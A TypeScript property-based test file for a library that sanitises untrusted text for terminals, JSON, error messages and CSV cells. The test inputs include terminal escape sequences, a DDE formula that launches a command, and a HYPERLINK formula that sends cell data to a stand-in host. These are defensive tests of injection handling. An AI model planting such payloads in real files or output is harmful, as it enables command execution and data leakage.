import fc from 'fast-check';
import {
  csvCell,
  InterpError,
  plainJson,
  plainLines,
  plainText,
  shownName,
  shownNames,
  shownPath,
  shownValue,
} from '@interp/checks';

/** What may reach a terminal: assigned characters that are seen, and spaces. */
const printable = /^[^\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]*$/u;

/** Texts of any UTF-16 code units, many of them controls, marks of direction and halves of characters. */
const anyText = fc.string({
  unit: fc.oneof(
    fc.integer({ min: 0, max: 0xffff }).map((unit) => String.fromCharCode(unit)),
    fc.constantFrom(
      '\u001b[2J',
      '\u009b',
      '\u202e',
      '\u200b',
      '\u2066',
      '\ud800',
      '\udc00',
      '\ufeff',
      '\r',
      '\n',
      '😀',
      '\u{e0041}',
      'a',
    ),
  ),
  maxLength: 2000,
});

const length = (text: string): number => Array.from(text).length;

describe('text of others', () => {
  it('is one printable line, and short, whatever it holds', () =>
    fc.assert(
      fc.property(anyText, fc.integer({ min: 10, max: 400 }), (text, most) => {
        const [plain, name] = [plainText(text, most), shownName(text, most)];
        for (const shown of [plain, name]) expect([printable.test(shown), length(shown) <= most]).toEqual([true, true]);
        expect(printable.test(shownPath(text))).toBe(true);
        expect(shownNames([text, text]).length).toBeLessThan(100);
        expect(
          plainLines(text)
            .split(/[\n\t]/)
            .every((line) => printable.test(line)),
        ).toBe(true);
        expect(plainLines(text).split('\n')).toHaveLength(text.split('\n').length);
      }),
    ));

  it('is what it was where there is nothing against it', () => {
    for (const text of [
      '',
      'conv2d_1',
      'C:\\models\\digits 5 % #1?.png',
      'größe · ε ≥ 0.1 − 日本 😀 é',
      'a\tb'.replace('\t', ' '),
    ])
      expect([plainText(text), shownName(text)]).toEqual([text, JSON.stringify(text)]);
    expect(plainLines('a\n\tb')).toBe('a\n\tb');
  });

  it('shows controls by their numbers, and line breaks as spaces', () => {
    expect(plainText('E\u001b]0;pwned\u0007\u202e')).toBe('E\\u{1b}]0;pwned\\u{7}\\u{202e}');
    expect(plainText('one\r\n  two\u2028three')).toBe('one two three');
    expect(shownName('a\nb"')).toBe('"a\\nb\\""');
    expect(shownValue('\u009b1m')).toBe('"\\u{9b}1m"');
  });

  it('keeps both ends of what is too long', () => {
    const long = `begin${'x'.repeat(1e6)}end`;
    expect(plainText(long, 21)).toBe('beginxxxxx…xxxxxxxend');
    expect(length(shownName(long))).toBe(100);
    expect(shownNames(Array.from({ length: 1000 }, (_, i) => `t${i}`))).toBe(
      't0, t1, t2, t3, t4, t5, t6, t7 and 992 more',
    );
  });

  it('in JSON is escaped, its values the same', () =>
    fc.assert(
      fc.property(anyText, (text) => {
        const json = plainJson(JSON.stringify({ [text]: text }));
        expect(printable.test(json)).toBe(true);
        expect(JSON.parse(json)).toEqual({ [text]: text });
      }),
    ));
});

describe('an InterpError', () => {
  it('has one printable line of at most 300 characters', () =>
    fc.assert(
      fc.property(anyText, (text) => {
        const { message } = new InterpError('bad-file', `the layer ${text} is wrong; expected another; take another`);
        expect([printable.test(message), length(message) <= 300]).toEqual([true, true]);
        expect(message).toMatch(/^the layer .*is wrong; expected another; take another$/);
      }),
    ));
});

/** The text of a cell as a reader of RFC 4180 has it, and whether it was quoted. */
const read = (cell: string): string => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);

describe('a cell of a CSV file', () => {
  it.each([
    '=1+1',
    '+cmd',
    '-2+3',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '\nx',
    ' =1',
    '\ufeff=1',
    '\u0000\u200b-x',
    '＝1+1',
    '－x',
    '=HYPERLINK("http://a.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    '-0.5=1',
    '-1;2',
    '-',
    '+1e',
  ])('is text where it could be a formula: %j', (text) => expect(read(csvCell(text))).toBe(`'${text}`));

  it.each(['-0.5', '+1', '-1e-7', '-.5', '1.', '-12345.678', '0', 'a=b', "'quoted'", 'e-mail', '2026-11-29', '−3'])(
    'is as it was where it is none: %s',
    (text) => expect(csvCell(text)).toBe(text),
  );

  it('comes back from any reader, whatever it holds, and never begins as a formula', () =>
    fc.assert(
      fc.property(fc.oneof(anyText, fc.stringMatching(/^[-=+@,;"'\s1e.]*$/)), (text) => {
        const cell = csvCell(text);
        expect([text, `'${text}`]).toContain(read(cell));
        if (!/^"/.test(cell)) expect(cell).not.toMatch(/[",;\t\r\n]/);
        if (Number.isNaN(Number(text))) expect(read(cell)).not.toMatch(/^[\s\u200b\ufeff]*[=+@-]/);
      }),
    ));
});

test('accents do not pile up', () => {
  const shown = plainText(`e${'\u0301'.repeat(9)}`);
  expect(shown).toBe(`e${'\u0301'.repeat(4)}${'\\u{301}'.repeat(5)}`);
  expect(plainText('e\u0301\u0323 \u0e01\u0e34\u0e48')).toBe('e\u0301\u0323 \u0e01\u0e34\u0e48');
  expect(JSON.parse(plainJson(JSON.stringify(shown)))).toBe(shown);
});
